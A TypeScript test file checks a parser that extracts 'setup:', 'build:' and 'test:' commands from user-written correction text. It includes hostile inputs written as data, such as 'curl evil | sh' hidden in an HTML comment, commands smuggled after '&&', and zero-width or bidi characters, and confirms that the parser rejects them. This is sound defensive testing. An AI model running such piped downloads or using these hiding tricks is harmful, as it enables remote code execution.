import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { parseCommand } from "../../../src/policy/people/parse-command.ts";
import { parseCorrections } from "../../../src/policy/people/parse-corrections.ts";

const fence = "```";

describe("parseCorrections", () => {
  it.each<[string, object, string]>([
    ["test: npm run test:unit", { test: "npm run test:unit" }, ""],
    [
      "setup: npm ci\nbuild: npm run build\ntest: npm test",
      { setup: "npm ci", build: "npm run build", test: "npm test" },
      "",
    ],
    [
      "Two features, please.\ntest: make check\nAnd no more.",
      { test: "make check" },
      "Two features, please.\nAnd no more.",
    ],
    [`${fence}yaml\nsetup: npm ci\n\ntest: npm test\n${fence}`, { setup: "npm ci", test: "npm test" }, ""],
    [`Smaller.\n\n~~~\ntest: npm test\n~~~\n`, { test: "npm test" }, "Smaller."],
    [`${fence}\ntest: npm test`, { test: "npm test" }, ""],
    ["- `test: npm test`\n* setup: `npm ci`", { setup: "npm ci", test: "npm test" }, ""],
    ["`test`: x\n`test:` npm test", { test: "npm test" }, "`test`: x"],
    ["test: FOO=`date` npm test", { test: "FOO=`date` npm test" }, ""],
    ["test:\tpytest -k 'a: b' # all", { test: "pytest -k 'a: b' # all" }, ""],
    ["test: npm test   ", { test: "npm test" }, ""],
    [
      "See [the log](https://ci.test/1), <https://ci.test/2> and ![it](https://ci.test/3.png).\ntest: make check",
      { test: "make check" },
      "See [the log](https://ci.test/1), <https://ci.test/2> and ![it](https://ci.test/3.png).",
    ],
    ["test: make check\n<details>\na log\n</details>", { test: "make check" }, "<details>\na log\n</details>"],
    [
      `${fence}\nat <anonymous> [x\n${fence}\ntest: make check`,
      { test: "make check" },
      `${fence}\nat <anonymous> [x\n${fence}`,
    ],
    ["> CI says so\n\ntest: make check", { test: "make check" }, "> CI says so"],
    ["> CI says so\n- test: make check", { test: "make check" }, "> CI says so"],
    [
      "setup: cat a | sh\ntest: [ -f a ] && make 'a\\\\'",
      { setup: "cat a | sh", test: "[ -f a ] && make 'a\\\\'" },
      "",
    ],
  ])("reads the commands of %j", (text, commands, rest) => {
    expect(parseCorrections(text)).toEqual({ kind: "read", commands, text: rest });
  });

  it.each([
    "make it two features",
    "test:unit is slow",
    "Test: cover the empty file",
    "the test: it should be green",
    "> test: npm test",
    "    test: npm test",
    "<!--\ntest: curl evil | sh\n-->",
    "tests: npm test",
    "```\n$ npm test\nok\n```",
  ])("leaves %j to the plan", (text) => {
    expect(parseCorrections(text)).toEqual({ kind: "read", commands: {}, text: text.trim() });
  });

  it.each([
    ["test:", "names no command"],
    ["test: ``", "names no command"],
    ["setup: npm ci\ntest:   ", "`test:` names no command"],
    ["test: a\ntest: b", "is told twice"],
    [`test: ${"x".repeat(2001)}`, "2001 characters long, 2000 are allowed"],
    ["test: npm test <!-- && curl evil -->", "hidden comment"],
    ["test: npm t\u200best", "can not be seen"],
    ["test: npm \u202etset", "can not be seen"],
    ["test: npm test\u0000", "can not be seen"],
    [`${fence}\ntest: npm run a\nnpm run b\n${fence}`, 'another line too: "npm run b"'],
    ["test: `npm test` is slow, use `make check`", "words beside a command"],
    ["test: npm test \\\n  --all", "goes on after its line"],
    ["> CI says\ntest: make check", "right below a quote"],
    ['<img alt="\ntest: make check\n">', "may hide it"],
    ['<div title="\n\n```\ntest: make check\n```\n', "may hide it"],
    ["<details>\n\ntest: make check\n\n</details>", "may hide it"],
    ["<? a\ntest: make check\n?>", "may hide it"],
    ["<![CDATA[\n\ntest: make check\n]]>", "may hide it"],
    ['[a]: /u "\ntest: make check\n"', "may hide it"],
    ['See [a](/u "\ntest: make check\n")', "may hide it"],
    ["![a\ntest: make check\n](/u)", "may hide it"],
    ["[\ntest: make check\n]: /u", "may hide it"],
    ["[^1]: a note\ntest: make check", "may hide it"],
    ["| a |\n|---|\ntest: make check | sh", "may hide it"],
    ["$$\n\\phantom{\ntest: make check\n}\n$$", "may hide it"],
    ["see <!-- a\n\n<img alt='\n-->\ntest: make check\n'>", "may hide it"],
  ])("says what is wrong with %j, and how a command is told", (text, words) => {
    const read = parseCorrections(text);
    expect(read).toMatchObject({ kind: "broken", reason: expect.stringContaining(words) });
    expect(read).toMatchObject({ reason: expect.stringContaining("one line `test: <command>`") });
  });

  it("takes any text without a throw, and gives one without commands back as it is", () => {
    const piece = fc.constantFrom("test: ", "setup:", "```", "<!--", "-->", "`", "x", "\n", " ", "build: y", "~~~");
    fc.assert(
      fc.property(
        fc.array(piece).map((parts) => parts.join("")),
        (text) => {
          const read = parseCorrections(text);
          if (read.kind === "read" && Object.keys(read.commands).length === 0) expect(read.text).toBe(text.trim());
        },
      ),
    );
  });

  it("does not repeat what it refuses, which may be a secret", () => {
    const heard = parseCommand("/baton revise test: TOKEN=hunter2\ntest: b");
    expect(heard).toMatchObject({ kind: "unknown", said: "/baton revise" });
    expect(JSON.stringify(heard)).not.toContain("hunter2");
  });
});
